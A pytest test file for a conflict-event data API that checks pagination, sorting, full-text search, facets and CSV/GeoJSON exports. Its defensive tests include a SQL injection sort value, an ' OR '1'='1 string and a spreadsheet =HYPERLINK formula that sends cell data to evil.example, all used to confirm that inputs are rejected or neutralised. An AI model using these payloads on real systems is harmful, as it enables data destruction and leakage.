"""Lists as datasette and ACLED API users expect them: a total on every page, sorting, full-text search,
facets of the current filter, CSV and GeoJSON of the same rows, streamed exports, and malformed searches
answered with a 400 (on SQLite and on PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import os
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from web_support import EXAMPLES, Live

from frontwire.store import open_store
from frontwire.web import ServeSettings

PG_ENV = "FRONTWIRE_TEST_PG"
# Searches a careless or hostile user sends; each is a 400 naming `q`, never a 500.
HOSTILE_SEARCHES = (
    '"',
    'airstrike "Homs',
    "(strike",
    "strike)",
    "strike AND",
    "OR strike",
    "NOT",
    "-strike",
    "*",
    '""',
    "strike OR -drill",
    "(" * 30 + "strike" + ")" * 30,
    "strike AND AND killed",
)


def get(live: Live, path: str, **params) -> httpx.Response:
    return httpx.get(f"{live.url}{path}", params=params, timeout=60)


def test_every_page_carries_the_total_and_the_sort(live: Live) -> None:
    everything = get(live, "/api/incidents", limit=1000).json()
    first = get(live, "/api/incidents", limit=2).json()
    assert first["total"] == len(everything["items"]) > 2
    assert first["sort"] == "date" and first["next"]
    for path in ("/api/incidents", "/api/events"):  # past the last page: no rows, the same total
        whole = get(live, path, limit=1).json()["total"]
        beyond = get(live, path, offset=5000).json()
        assert beyond["items"] == [] and beyond["total"] == whole and beyond["next"] is None
    events = get(live, "/api/events", limit=1, country="Syria").json()
    assert events["total"] == len(get(live, "/api/events", limit=1000, country="Syria").json()["items"])


def test_sort_orders_every_page_and_rejects_unknown_keys(live: Live) -> None:
    items = get(live, "/api/incidents", limit=1000, sort="-fatalities").json()["items"]
    known = [i["fatalities"] for i in items if i["fatalities"] is not None]
    assert known == sorted(known, reverse=True) and len(set(known)) > 1
    assert all(i["fatalities"] is None for i in items[len(known) :])  # unknown tolls last
    dates = [i["event_date"] for i in get(live, "/api/incidents", limit=1000, sort="-date").json()["items"]]
    dated = [d for d in dates if d]
    assert dated == sorted(dated, reverse=True)
    r = get(live, "/api/events", sort="id; DROP TABLE mentions")
    assert r.status_code == 400 and r.json()["param"] == "sort"


def test_search_filter_and_facets_agree(live: Live) -> None:
    hits = get(live, "/api/events", q="killed", limit=1000).json()
    assert 0 < hits["total"] == len(hits["items"])
    assert all(
        "kill" in (e["notes"] + " ".join(x["text"] for x in e["evidence"])).lower() for e in hits["items"]
    )
    none = get(live, "/api/events", q="zzzyxnotaword").json()
    assert none["total"] == 0 and none["items"] == []
    incidents = get(live, "/api/incidents", q="killed", limit=1000).json()
    facets = get(live, "/api/facets", q="killed").json()
    assert sum(f["count"] for f in facets["type"]) == incidents["total"]
    assert sum(f["count"] for f in facets["grade"]) == incidents["total"]
    all_facets = get(live, "/api/facets").json()
    assert sum(f["count"] for f in all_facets["type"]) >= incidents["total"]
    for key in ("type", "country", "actor", "outlet", "grade"):
        assert key in facets
    assert facets["outlet"]
    for outlet in facets["outlet"][:5]:  # an outlet's count is the incidents its filter finds
        assert (
            get(live, "/api/incidents", q="killed", outlet=outlet["value"]).json()["total"] == outlet["count"]
        )


def test_new_filters(live: Live) -> None:
    everything = get(live, "/api/incidents", limit=1000).json()["items"]
    civ = get(live, "/api/incidents", civilian_targeting="true", limit=1000).json()
    assert civ["total"] == sum(1 for i in everything if i["civilian_targeting"])
    low = get(live, "/api/incidents", fatalities_min=1, fatalities_max=5, limit=1000).json()
    assert low["total"] == sum(
        1 for i in everything if i["fatalities"] is not None and 1 <= i["fatalities"] <= 5
    )
    sub = everything[0]["sub_event_type"]
    got = get(live, "/api/incidents", sub_event_type=sub, limit=1000).json()["items"]
    assert got and {i["sub_event_type"] for i in got} == {sub}
    for params, name in (
        ({"civilian_targeting": "maybe"}, "civilian_targeting"),
        ({"fatalities_min": "-1"}, "fatalities_min"),
        ({"fatalities_min": "9", "fatalities_max": "2"}, "fatalities_min"),
    ):
        r = get(live, "/api/incidents", **params)
        assert r.status_code == 400 and r.json()["param"] == name


@pytest.mark.parametrize("kind", ["events", "incidents"])
def test_csv_and_geojson_hold_the_same_rows_as_the_pages(live: Live, kind: str) -> None:
    params = {"country": "Syria", "sort": "-fatalities"}
    page = get(live, f"/api/{kind}", limit=1000, **params).json()
    r = get(live, f"/api/{kind}.csv", **params)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["id"] for row in rows] == [i["id"] for i in page["items"]] and len(rows) == page["total"] > 0
    geo = get(live, f"/api/{kind}.geojson", **params).json()
    assert geo["type"] == "FeatureCollection"
    assert [f["id"] for f in geo["features"]] == [i["id"] for i in page["items"]]
    assert len(get(live, f"/api/{kind}.csv", limit=2, **params).text.strip().splitlines()) == 3


def test_export_csv_is_streamed(live: Live) -> None:
    with httpx.stream("GET", f"{live.url}/api/export.csv", timeout=60) as r:
        assert r.status_code == 200
        assert r.headers.get("transfer-encoding") == "chunked" and "content-length" not in r.headers
        text = "".join(r.iter_text())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "event_id_cnty" and len(rows) - 1 == get(live, "/api/incidents").json()["total"]


def test_openapi_documents_the_lists(live: Live) -> None:
    doc = get(live, "/openapi.json").json()
    for path in ("/api/events.csv", "/api/events.geojson", "/api/incidents.csv", "/api/incidents.geojson"):
        assert path in doc["paths"]
    names = {p["name"] for p in doc["paths"]["/api/events"]["get"]["parameters"]}
    assert {"q", "sort", "sub_event_type", "civilian_targeting", "fatalities_min", "fatalities_max"} <= names
    assert "total" in doc["components"]["schemas"]["Page"]["properties"]
    facet_params = {p["name"] for p in doc["paths"]["/api/facets"]["get"]["parameters"]}
    assert {"q", "country"} <= facet_params


@pytest.fixture(params=["sqlite", "postgres"])
def any_backend(
    request: pytest.FixtureRequest, web_db: Path, serve: Callable[[ServeSettings], Live]
) -> Iterator[Live]:
    """The read-only server over the test database, or over the examples ingested into PostgreSQL."""
    if request.param == "sqlite":
        yield serve(ServeSettings(db=str(web_db)))
        return
    base = os.environ.get(PG_ENV)
    if not base:
        pytest.skip(
            f"{PG_ENV} is not set: no PostgreSQL server to test against (see tests/store/pg_start.sh)"
        )
    import psycopg

    from frontwire.run.ingest import ingest

    schema = "w_" + uuid.uuid4().hex[:12]
    with psycopg.connect(base, autocommit=True) as conn:
        conn.execute(f"CREATE SCHEMA {schema}")
    url = f"{base}{'&' if '?' in base else '?'}options={quote(f'-c search_path={schema}')}"
    try:
        assert ingest([str(EXAMPLES)], db=url).failed == 0
        yield serve(ServeSettings(db=url))
    finally:
        with psycopg.connect(base, autocommit=True) as conn:
            conn.execute(f"DROP SCHEMA {schema} CASCADE")


def test_lists_and_malformed_searches_on_both_backends(any_backend: Live) -> None:
    live = any_backend
    hits = get(live, "/api/incidents", q="killed", limit=1000, sort="-fatalities").json()
    assert 0 < hits["total"] == len(hits["items"])
    tolls = [i["fatalities"] for i in hits["items"] if i["fatalities"] is not None]
    assert tolls == sorted(tolls, reverse=True)
    facets = get(live, "/api/facets", q="killed").json()
    assert sum(f["count"] for f in facets["type"]) == hits["total"]
    rows = list(
        csv.DictReader(io.StringIO(get(live, "/api/incidents.csv", q="killed", sort="-fatalities").text))
    )
    assert [r["id"] for r in rows] == [i["id"] for i in hits["items"]]
    for query in HOSTILE_SEARCHES:
        for path in ("/api/events", "/api/incidents", "/api/facets", "/api/events.csv", "/api/map.geojson"):
            r = get(live, path, q=query)
            assert r.status_code == 400, (path, query, r.text[:200])
            body = r.json()
            assert body["param"] == "q" and body["error"].startswith("q: "), body
    for name in ("country", "actor", "outlet", "q"):  # a NUL byte is refused before PostgreSQL sees it
        r = get(live, "/api/incidents", **{name: "Syr\x00ia"})
        assert r.status_code == 400 and r.json()["param"] == name
    # look-alikes of FTS5 or tsquery syntax are plain words, never a database error
    for query in ("NEAR(strike killed)", "notes:killed", "^killed", "killed & strike", "x' OR '1'='1"):
        assert get(live, "/api/events", q=query).status_code == 200, query


def test_csv_cells_never_start_a_formula(
    db_copy: Path, serve: Callable[[ServeSettings], Live], tmp_path: Path
) -> None:
    """An outlet name and notes that start with '=' reach every CSV as text, not as a formula."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    with open_store(db_copy) as store:
        store._run("UPDATE outlets SET name = ?", (evil,))
        store._run("UPDATE mentions SET notes = ?", ("-" + evil,))
        store._run("UPDATE incidents SET notes = ?, actor1 = ?", ("@" + evil, "+" + evil))
    live = serve(ServeSettings(db=str(db_copy)))
    for path in ("/api/events.csv", "/api/incidents.csv", "/api/export.csv"):
        rows = list(csv.reader(io.StringIO(get(live, path).text)))
        assert len(rows) > 1
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-=")], path
        assert any(c.startswith("'") and "HYPERLINK" in c for c in cells), path
    json.dumps(rows)  # plain text cells
